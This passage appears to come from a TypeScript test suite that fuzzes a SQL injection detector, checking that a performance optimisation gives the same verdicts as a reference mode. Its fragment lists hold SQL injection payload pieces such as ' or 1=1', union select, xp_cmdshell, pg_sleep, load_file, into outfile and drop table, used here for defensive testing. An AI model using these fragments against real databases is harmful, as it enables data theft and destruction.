  const PIECES = [...'"`()[]{};:|&%#@!*+-=<>/?.,~^_ 0ax1$\'\\', '\n', '\r', '$$', '$$', '$$', '$a$', '$q$', '$Tag_1$', '$5$', '$USD$', '$x', '$1', ' or 1=1', ' union select 1', '--', '--x', '#', '/*', '*/', 'sleep(1)', 'pg_sleep(5)', ';select ', ' and ', 'x=', ' from users', 'the price', 'admin', ' or ', '1', '1union', 'xp_cmdshell', '::int', '::', '@@version', '@x', '\\N', 'é', '\u2019', '\u017felect', ';x', ';', '(', ' drop table t', "'", "E'", "U&'", '||', '&&', 'waitfor delay', 'benchmark(', 'extractvalue(1,', 'load_file(', 'into outfile', 'CASE WHEN', ' is not null', 'count(*)', 'user()', '0x41', ' like ', "N'", '$$;x', '$$ or ', ' ;x ', 'select', 'and', 'or', 'if(', 'iif(', '1=1', "'1'='1", '<>', ' 1 ', 'x y', ')', '))'];
  let diffs = 0;
  let found = 0;
  // Found by the offline run: CASE WHEN (F_CONDFN) needs no STRONG or CALL word; `admin$q$;` (a `;`
  // after a login-like literal) no word at all.
  const FIXED = ['-$q$*CASE WHEN-$q$*CASE WHEN', '1union$q$;', 'admin$q$;', '$$ or true--'];
  try {
    for (let i = 0; i < 12000 + FIXED.length; i++) {
      let v = '';
      const len = 1 + Math.floor(rnd() * 14);
      while (v.length < len) v += pick(PIECES);
      if (rnd() < 0.1) v = v.repeat(1 + Math.floor(rnd() * 20));
      if (i >= 12000) v = FIXED[i - 12000] as string;
      DOLLAR_WALKS_FOR_TEST.restart = false;
      const a = verdictKey(detectSqlInjection(v));
      DOLLAR_WALKS_FOR_TEST.restart = true;
      const b = verdictKey(detectSqlInjection(v));
      if (a !== '-;') found++;
      if (a !== b && diffs++ < 10) t.fail(`${JSON.stringify(v)}: ${a} vs always restarting ${b}`);
    }
  } finally {
    DOLLAR_WALKS_FOR_TEST.restart = false;
  }
  t.equal(diffs, 0, 'no difference with the reference');
  t.ok(found > 2000, `${found} findings in the table`);
});

t.test('bare walks of a value with `$` start over only where it can matter: same verdicts as always starting over (session 20, hC2)', async (t) => {
  // 1 MB of `$a$;x` or `$$;x`: the bare walk died and started over at every `;x` (~35 µs/KB of the
  // detector). With a `$` in the value, the bare walks (from 0, and after `key=`) start over only
  // when lastMark with every vocabulary word (KW_ANY) finds something after their start. Reference:
  // DOLLAR_WALKS_FOR_TEST.bareRestart (bare walks start over as they always did; the dollar walks'
  // own gate stays). (DOLLAR_WALKS_FOR_TEST.restart is no exact reference on this alphabet: a gated
  // dollar walk that dies keeps what it found before, `$q$ and 1=1>;foo $>`, high before and after.) Periods of dollar quotes, tags and separators with planted
  // statements of every kind (T-SQL bare statements, KILL/PRAGMA/USE words that are no STRONG word),
  // logic, comments, escapes, non-ASCII, quotes and literal prefixes, forms.
  const rnd = prng(2011302);
  const pick = (a: readonly string[]): string => a[Math.floor(rnd() * a.length)] as string;
  const DOL = ['$$', '$a$', '$tag$', '$q$', '$', '$1', '$x', '$$$', '$USD$', '$_$', '$a', 'a$', '$5$'];
  const QUIET = [';', ';', ' ', 'x', 'a', 'foo', '1', '=', '(', ')', ',', '.', '-', '+', '*', '/', ':', '!', '?', '<', '>', '[', ']', '{', '}', '%', '\n'];
  const LOUD = [';kill 1', '; pragma x', ';select pg_sleep(5)', ' or 1=1', ' union select 1', ';drop table x', ' and 1=1', ';waitfor delay 1', ' or true', ';declare @x int', ';exec xp_cmdshell 1', ';if(1=1) select 1', ';shutdown', ';use master', ';copy (x) to y', ';lock table x', ' or sleep(5)', ';call x()', ';do sleep(1)', ' having 1=1', ' order by 1', ';insert into x values(1)', ' like 1', ' case when 1=1 then 1 end', ';grant all', ';handler x open', ' || 1', ' && 1', ' xor 1', 'kill', 'pragma', 'use', 'delete', 'exec', 'if', '1union', 'xp_x', "'", '"', '`', '--', '#', '/*', '*/', '\\', '@', '::', 'é', '\u2019', "U&'", "N'", '\\N'];
  const piece = (): string => (rnd() < 0.4 ? pick(QUIET) : rnd() < 0.5 ? pick(DOL) : pick(LOUD));
  let diffs = 0;
  let found = 0;
  try {
    for (let i = 0; i < 8000; i++) {
      const per = rnd() < 0.5 ? pick(DOL) + ';' + pick(['x', 'a', 'foo', '1']) : pick(DOL) + pick(QUIET) + pick(QUIET);
      let v = per.repeat(1 + Math.floor(rnd() * (rnd() < 0.3 ? 40 : 6)));
      if (rnd() < 0.6) {
        const k = Math.floor(rnd() * v.length);
        v = v.slice(0, k) + piece() + (rnd() < 0.5 ? ' ' : '') + piece() + v.slice(k);
      }
      if (rnd() < 0.5) v += (rnd() < 0.5 ? ' ' : '') + piece() + piece();
      if (rnd() < 0.2) v = 'q=' + v;
      DOLLAR_WALKS_FOR_TEST.bareRestart = false;
      const a = verdictKey(detectSqlInjection(v));
      DOLLAR_WALKS_FOR_TEST.bareRestart = true;
      const b = verdictKey(detectSqlInjection(v));
      if (b !== '-;') found++;
      if (a !== b && diffs++ < 10) t.fail(`${JSON.stringify(v)}: ${a} vs always restarting ${b}`);
    }
  } finally {
    DOLLAR_WALKS_FOR_TEST.bareRestart = false;
  }
  t.equal(diffs, 0, 'no difference with the reference');
  t.ok(found > 1000 && found < 7000, `${found} findings in the table`);
  t.equal(detectSqlInjection('$a$;x'.repeat(20000)), undefined);
  t.equal(detectSqlInjection('$$;x'.repeat(20000)), undefined);
  t.equal(detectSqlInjection('$a$;x'.repeat(2000) + ';kill 1')?.confidence, 'high');
  t.equal(detectSqlInjection('x$a ) y z;kill 1')?.confidence, 'high');
});
